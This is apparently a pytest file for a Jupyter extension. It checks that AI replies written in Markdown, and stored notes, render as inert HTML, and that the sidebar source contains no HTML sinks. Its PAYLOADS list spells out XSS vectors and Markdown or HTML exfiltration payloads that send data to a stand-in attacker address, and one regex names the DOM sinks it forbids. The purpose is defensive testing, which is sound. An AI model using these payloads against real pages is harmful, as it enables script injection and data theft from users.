"""A model's reply as a notebook shows it: Markdown made inert HTML (issue 34).

The browser test (tests/test_browser_reply.py) shows the classic payloads staying inert in
JupyterLab; here many more HTML injection shapes go through `inert_html`, and the result is
read back with an HTML parser: only the allowed tags, no event attribute, no element that loads
anything (img, iframe, script, style, object, svg, video, link, meta, base, form), and links only
to http, https or mailto. tests/test_ask_notebook.py checks that the `%%ask` cell of a real
kernel keeps only this HTML and the text, no Markdown a front end would render with HTML live.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from hipo_jupyter.ipython.display import LINK_SCHEMES, inert_html, inert_tags, reply_bundle

ATTACKER = "http://127.0.0.1:9/"
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f"![c]({ATTACKER}?d=secret)",
    f'![c]({ATTACKER}?d=secret "title")',
    f"![c][ref]\n\n[ref]: {ATTACKER}?d=ref",
    '<a href="javascript:alert(1)">x</a> [y](javascript:alert(1)) [z](JaVaScRiPt:alert(1))',
    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[v](vbscript:msgbox(1)) <https://ok.example/> <javascript:alert(1)>",
    f'<video src="{ATTACKER}v.mp4" autoplay></video><audio src="{ATTACKER}a.mp3" autoplay>',
    f'<object data="{ATTACKER}o"></object><embed src="{ATTACKER}e">',
    f'<link rel=stylesheet href="{ATTACKER}s.css"><style>@import "{ATTACKER}i.css"</style>',
    f'<div style="background:url({ATTACKER}bg)">styled</div>',
    f'<meta http-equiv="refresh" content="0;url={ATTACKER}"><base href="{ATTACKER}">',
    f'<form action="{ATTACKER}"><input autofocus onfocus=alert(1)></form>',
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    "`<img src=x onerror=alert(1)>` inline\n\n```\n<script>alert(1)</script>\n```",
    "<table><tr><td background=javascript:alert(1)>cell</td></tr></table>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
]
LOADING_TAGS = {"img", "iframe", "script", "style", "object", "embed", "svg", "video",
                "audio", "source", "link", "meta", "base", "form", "input", "math"}  # fmt: skip


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(markup)
    parser.close()
    return parser.tags


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_as_live_html(payload: str) -> None:
    markup = inert_html(f"Answer first.\n\n{payload}\n\n**bold** and a [link](https://example.com)")
    for tag, attrs in elements(markup):
        assert tag in inert_tags() and tag not in LOADING_TAGS, (tag, markup)
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert set(attrs) <= {"href", "rel", "title", "align", "start"}, (tag, attrs)
        href = attrs.get("href")
        if href is not None:
            scheme = href.split(":", 1)[0].lower() if ":" in href.split("/")[0] else ""
            assert scheme in LINK_SCHEMES or href.startswith("#"), href
            assert attrs.get("rel") == "noopener noreferrer nofollow"
    assert "<strong>bold</strong>" in markup  # still readable Markdown


def test_raw_html_shows_as_text_and_an_image_as_a_link() -> None:
    markup = inert_html(f"<script>alert(1)</script>\n\n![chart]({ATTACKER}?d=x)")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markup
    assert [tag for tag, _ in elements(markup)] == ["p", "p", "a"]
    assert f'href="{ATTACKER}?d=x"' in markup and "[image: chart]" in markup


def test_code_keeps_its_angle_brackets_readable() -> None:
    markup = inert_html("```python\nif a < b:\n    print('<b>')\n```")
    assert "if a &lt; b:" in markup and "print('&lt;b&gt;')" in markup


def test_the_bundle_keeps_the_text_with_its_escapes_visible() -> None:
    bundle = reply_bundle("<b>hi</b> \x1b[2J\x9b")
    assert bundle["text/plain"] == "<b>hi</b> \\x1b[2J\\x9b" and "text/markdown" not in bundle
    assert "&lt;b&gt;hi&lt;/b&gt;" in bundle["text/html"] and "\x1b" not in bundle["text/html"]


# --- every other HTML made from stored text: widgets and `_repr_html_` -------------------------
HOSTILE = "<img src=x onerror=alert(1)><script>alert(2)</script>"
MARKUP_TAGS = {"div", "table", "caption", "thead", "tbody", "tr", "th", "td", "b", "i", "em",
               "br", "small", "code", "pre"}  # fmt: skip


def widget_html(widget) -> list[str]:
    """The value of every HTML widget under `widget`."""
    import ipywidgets

    found = [widget.value] if isinstance(widget, ipywidgets.HTML) else []
    for child in getattr(widget, "children", ()):
        found.extend(widget_html(child))
    return found


def test_stored_html_is_text_in_widgets_and_recall_tables(memory_root, fixed_today) -> None:
    """A note whose title, tags, body and file hold markup (hand-written into the raw log,
    as an import or a teammate could) shows as text in the Topics Index widget, its search
    hits, an opened node and the recall table: only the views' own tags."""
    from hipo_jupyter.ipython.display import RecallView
    from hipo_jupyter.ipython.widgets import TopicIndex
    from hipo_jupyter.memory import Memory

    memory = Memory(memory_root, today=lambda: fixed_today)
    try:
        memory.remember("Zebra census", "- outcome: counted", tags=["zebra"])
        log = memory_root / "memory" / f"{fixed_today.isoformat()}.md"
        with log.open("a") as out:
            out.write(f"\n## Zebra {HOSTILE} #zebra\n- outcome: zebra {HOSTILE}\n")
        memory.reindex()
        index = TopicIndex(memory)
        index.search("zebra")
        index.open_node(log.relative_to(memory_root).as_posix())
        shown = widget_html(index) + [RecallView.of(memory.recall("zebra"))._repr_html_()]
        shown.append(index._repr_mimebundle_()["text/html"])
        index.close()
    finally:
        memory.close()
    assert any("&lt;script&gt;" in markup for markup in shown)
    for markup in shown:
        for tag, attrs in elements(markup):
            assert tag in MARKUP_TAGS, (tag, markup)
            assert not any(name.startswith("on") for name in attrs), (tag, attrs)


def test_the_sidebar_source_never_builds_html_from_text() -> None:
    """The sidebar writes stored text with `textContent` only (its `el` helper); no HTML sink
    is in its source, so a later change that adds one fails here before it ships.
    tests/test_browser_reply.py shows hostile write-backs as text in the real sidebar."""
    import re
    from pathlib import Path

    source = Path(__file__).resolve().parent.parent / "labextension" / "src"
    sinks = re.compile(
        r"innerHTML|outerHTML|insertAdjacentHTML|dangerouslySetInnerHTML|document\.write|"
        r"createContextualFragment|DOMParser|\.srcdoc|renderMarkdown|RenderedHTML|"
        r"\.href\s*=|\.src\s*=|window\.open"
    )
    found = [
        f"{path.name}:{number}: {line.strip()}"
        for path in sorted(source.glob("*.ts*"))
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if sinks.search(line)
    ]
    assert found == []
